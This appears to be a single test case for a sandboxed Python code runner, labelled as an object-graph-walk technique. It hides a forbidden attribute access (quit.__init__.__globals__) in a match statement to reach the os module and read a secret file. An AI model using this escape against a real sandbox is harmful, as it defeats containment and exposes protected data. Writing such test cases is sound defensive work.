# class: object graph walk
# technique: a forbidden attribute in the subject of a match
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
match quit.__init__.__globals__:
    case g:
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
